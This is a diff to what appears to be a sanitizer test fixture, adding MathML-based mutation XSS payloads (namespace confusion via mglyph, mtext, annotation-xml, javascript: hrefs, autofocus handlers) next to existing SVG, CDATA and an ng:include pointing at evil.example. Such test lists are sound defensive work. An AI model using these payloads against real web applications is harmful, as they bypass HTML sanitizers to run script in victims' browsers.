@@ -41,6 +41,19 @@ export const mutation = lines(String.raw`
 <svg><template><img src=x onerror=alert(1)></template></svg>
 <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
 <math><![CDATA[<p title="]]><img src=x onerror=alert(1)>">]]></math>
+<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
+<math><mi><mglyph><img src onerror=alert(1)></mglyph></mi></math>
+<math><mtext></math><img src=x onerror=alert(1)>
+<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=alert(1)>
+<p><math><mrow></p><img src=x onerror=alert(1)></mrow></math>
+<table><math><mtr><td><mi onclick=alert(1)>x</mi></td></mtr></math></table>
+<math><mrow><mtext>&lt;img src=x onerror=alert(1)&gt;</mtext></mrow></math>
+<math><mi>&#x3C;script>alert(1)&#x3C;/script></mi></math>
+<math><mspace style="position:fixed" width="99999px" onfocus=alert(1) tabindex=0 autofocus>
+<math><mtext><br><p><img src=x onerror=alert(1)></math>
+<math><mrow><font color=red><img src=x onerror=alert(1)></font></mrow></math>
+<math><mi><mi><mi><script>alert(1)</script></mi></math><mi onclick=alert(1)>x</mi>
+<math display="block" href="javascript:alert(1)" xlink:href="javascript:alert(1)"><mstyle mathcolor="x" background="javascript:alert(1)"><mi>x</mi></mstyle></math>
 <svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>
 <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
 <html xmlns:ng="http://angularjs.org"><ng:include src="'https://evil.example/'">
